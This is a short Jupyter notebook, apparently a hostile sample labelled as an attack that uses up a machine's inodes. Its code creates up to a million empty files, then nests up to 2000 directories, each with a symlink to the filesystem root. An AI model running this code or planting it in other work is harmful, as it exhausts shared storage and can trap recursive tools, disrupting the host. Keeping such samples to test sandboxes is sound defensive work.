# ---
# jupyter:
#   attack: {harm: "it would use up this machine's inodes"}
# ---

# %% [markdown]
# Makes files, folders and links without end, a thousand folders deep.

# %%
import os

try:
    for number in range(10**6):
        open(f"f{number}", "w").close()
except OSError as error:
    print(error)
try:
    for number in range(2000):
        os.mkdir("d")
        os.chdir("d")
        os.symlink("/", "s")
except OSError as error:
    print(error)
